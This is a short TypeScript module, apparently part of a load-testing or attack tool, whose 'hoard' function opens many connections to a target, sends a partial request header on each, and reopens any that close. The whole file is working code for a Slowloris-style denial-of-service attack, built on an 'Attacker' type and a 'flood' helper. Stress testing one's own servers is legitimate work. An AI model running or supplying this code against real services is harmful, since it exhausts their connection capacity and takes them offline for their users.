// Holds connections that are begun and never finished.

import type { Socket } from 'node:net'
import type { Attacker } from './attack.js'
import { line } from './flood.js'

const lanes = 50
const againAfterMs = 100

/** Keeps `count` connections, of all processes together, on each of which `head` was sent. One that is closed is opened again. */
export async function hoard(
  attacker: Attacker,
  count: number,
  head: string,
  then: (socket: Socket) => void | Promise<void>,
): Promise<void> {
  const own = Math.ceil(count / attacker.processes)
  const bytes = Buffer.from(head)
  let held = 0
  await attacker.lanes(lanes, async () => {
    if (held >= own) return attacker.pause(againAfterMs)
    held++
    const socket = await attacker.dial()
    if (socket === undefined) {
      held--
      return attacker.pause(againAfterMs)
    }
    attacker.count('connections')
    socket.once('close', () => held--)
    socket.resume()
    await line(attacker, bytes.length)
    socket.write(bytes)
    void then(socket)
  })
}
